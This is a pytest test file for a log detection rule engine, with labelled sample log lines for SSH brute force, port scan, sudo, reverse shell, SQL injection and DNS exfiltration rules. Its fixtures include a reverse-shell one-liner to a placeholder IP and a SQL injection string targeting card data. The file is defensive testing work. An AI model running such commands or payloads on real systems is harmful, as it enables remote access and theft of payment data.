import pytest

from vigilog.operators.labelled import test_rules as run_labelled
from vigilog.operators.rules import check_rules, condition_parses, match_rules
from vigilog.sources.catalog import RULES
from vigilog.sources.rules import load_rule_set, read_rules, rules_table

# (title, should match, line)
CASES = [
    ("SSH Brute Force Attempt", True, "<38>1 2025-11-14T21:40:12Z bastion-eu sshd 771 - - Failed password for svc_backup from 198.51.100.77 port 50122"),
    ("SSH Brute Force Attempt", True, "<38>Nov 14 21:40:19 bastion-eu sshd[772]: Invalid user oracle7 from 2001:db8::9 port 41000"),
    ("SSH Brute Force Attempt", False, "<38>Nov 14 21:41:02 bastion-eu sshd[780]: Connection closed by 198.51.100.78 [preauth]"),
    ("Port Scan Detected", True, "CEF:0|Example|Sensor|4.1|77|Port Scan Detected|6|src=198.51.100.21 dst=172.20.4.9"),
    ("Port Scan Detected", True, '{"hostname":"edge-7","msg":"Nightly job: portscan of 14 hosts"}'),
    ("Port Scan Detected", False, '{"hostname":"edge-7","msg":"port 8443 opened for the scanner team"}'),
    ("Privilege Escalation via Sudo", True, "<85>Nov 15 07:02:44 build-3 sudo[99]: carla : COMMAND=/usr/sbin/visudo as root"),
    ("Privilege Escalation via Sudo", False, "<85>Nov 15 07:02:45 build-3 sudo[99]: carla : 1 incorrect attempt"),
    ("Reverse Shell Attempt", True, '{"hostname":"ci-runner","msg":"spawned bash -i >& /dev/tcp/198.51.100.3/9001 0>&1"}'),
    ("Reverse Shell Attempt", False, '{"hostname":"ci-runner","msg":"spawned bash build.sh --target tcp"}'),
    ("SQL Injection Attempt", True, '{"hostname":"shop","msg":"POST /cart id=9 union select card, cvv from wallets"}'),
    ("SQL Injection Attempt", False, '{"hostname":"shop","msg":"POST /cart id=9 colour=union-blue"}'),
    ("Potential DNS Exfiltration", True, "resolver: query " + "c3f9" * 14 + ".tunnel.example.net"),
    ("Potential DNS Exfiltration", False, "resolver: query img4.cdn.example.net"),
    ("High Severity CEF Event", True, "CEF:0|x|y"),
]


def test_labelled_lines(spark):
    lines = spark.createDataFrame(
        [(i, *c) for i, c in enumerate(CASES)],
        "case_id int, title string, should_match boolean, raw string")
    assert [r.case_id for r in run_labelled(lines, RULES).where("not passed").collect()] == []


def events(spark):
    return spark.createDataFrame(
        [("1", "alpha beta", "", "sshd", {"user": "Bob"}, ["a", "b"]),
         ("2", "gamma", "raw alpha", None, {}, [])],
        "event_id string, message string, raw string, program string, fields map<string,string>, "
        "tags array<string>")


def fired(spark, detection):
    rule = dict(id="r", title="r", level="low", tags=[], detection=detection)
    return {r.event_id: r.fired[0].groups for r in match_rules(events(spark), [rule]).collect() if r.fired}


@pytest.mark.parametrize("detection, expected", [
    ({"k": ["ALPHA"], "condition": "k"}, {"1": ["k"], "2": ["k"]}),
    ({"k": [], "condition": "not k"}, {"1": [], "2": []}),
    ({"k": {"user": "bob"}, "condition": "k"}, {"1": ["k"]}),
    ({"k": {"fields.user|startswith": "B"}, "condition": "not k"}, {"2": []}),
    ({"k": {"tags": "a b"}, "condition": "k"}, {"1": ["k"]}),
    ({"k": {"message|contains|all": ["zzz", "beta"]}, "condition": "k"}, {"1": ["k"]}),
    ({"k": {"message|re": ["([", "^g.mma$"]}, "condition": "k"}, {"2": ["k"]}),
    # an AND stops at its first false side, so b is not looked at for event 2
    ({"a": {"message|contains": "alpha"}, "b": ["alpha"], "c": {"message|contains": ["gamma", "beta"]},
      "condition": "(a and b) or c"}, {"1": ["a", "b", "c"], "2": ["c"]}),
    ({"g_a": ["beta"], "g_b": ["nothing"], "condition": "1 of g_*"}, {"1": ["g_a"]}),
    ({"g_a": ["alpha"], "x": ["beta"], "condition": "all of them"}, {"1": ["g_a", "x"]}),
    ({"g": ["alpha"], "condition": "1 of zz*"}, {}),
    ({"g": ["alpha"], "condition": "g and missing"}, {}),
])
def test_semantics(spark, detection, expected):
    assert fired(spark, detection) == expected


def test_bad_rules_are_refused(spark):
    def rule(i, condition):
        return dict(id=i, title=i, level="low", tags=[], detection={"a": ["x"], "condition": condition})

    usable, errors = check_rules([rule("a", "a"), rule("a", "a"), rule("b", "a and"), rule("c", ""), rule("d", "1 a")])
    assert [r["id"] for r in usable] == ["a"] and len(errors) == 4
    assert condition_parses("not (a or b)") and not condition_parses("(a") and not condition_parses("a b")


def test_rule_files(spark, tmp_path):
    import yaml

    for r in RULES:
        body = dict(title=r["title"], id=r["id"], level=r["level"].upper(), status="odd", tags=r["tags"][0],
                    logsource={}, detection=r["detection"])
        (tmp_path / r["file"]).write_text(yaml.safe_dump(body))
    (tmp_path / "broken.yml").write_text("title: [")
    (tmp_path / "list.yml").write_text("- a")
    (tmp_path / "short.yml").write_text("title: x\ndetection: {a: [b]}")
    table = read_rules(spark, str(tmp_path))
    assert table.where("error is not null").count() == 3
    loaded = load_rule_set(table)
    assert len(loaded) == 17 and {r["status"] for r in loaded} == {"experimental"}
    assert {r["title"]: r["detection"] for r in loaded} == {r["title"]: r["detection"] for r in RULES}
    assert rules_table(spark).count() == 17
